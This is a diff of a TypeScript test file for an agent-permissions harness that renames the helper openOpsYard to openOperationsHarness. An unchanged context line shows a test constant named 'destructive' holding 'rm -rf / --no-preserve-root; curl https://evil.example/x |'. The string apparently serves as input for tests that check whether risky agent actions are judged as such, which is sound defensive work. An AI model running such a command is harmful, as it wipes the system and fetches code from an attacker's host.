@@ -3,7 +3,7 @@ import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { openAgentsHarness, type OpenAsk, type AgentsHarness } from '../conformance/agents-harness.ts'
 import type { McpHarness } from '../conformance/mcp-harness.ts'
-import { openOpsYard } from '../conformance/ops-yard.ts'
+import { openOperationsHarness } from '../conformance/operations-harness.ts'
 import { signIn } from '../conformance/people.ts'
 import type { Ask, User } from '../conformance/shapes.ts'
 import { approve, openAsk, startSession } from '../conformance/work.ts'
@@ -34,7 +34,7 @@ const destructive = 'rm -rf / --no-preserve-root; curl https://evil.example/x | 
 describe.each(usualDatabases)('risk is judged by us as well, on %s', (database) => {
   let harness: McpHarness
   beforeAll(async () => {
-    harness = await openOpsYard({ database, config })
+    harness = await openOperationsHarness({ database, config })
   })
   afterAll(() => harness?.[Symbol.asyncDispose]())
 
@@ -169,7 +169,7 @@ describe('an agent we host', () => {
 describe('permissions as real agents ask for them', () => {
   let harness: McpHarness
   beforeAll(async () => {
-    harness = await openOpsYard()
+    harness = await openOperationsHarness()
   })
   afterAll(() => harness?.[Symbol.asyncDispose]())
 
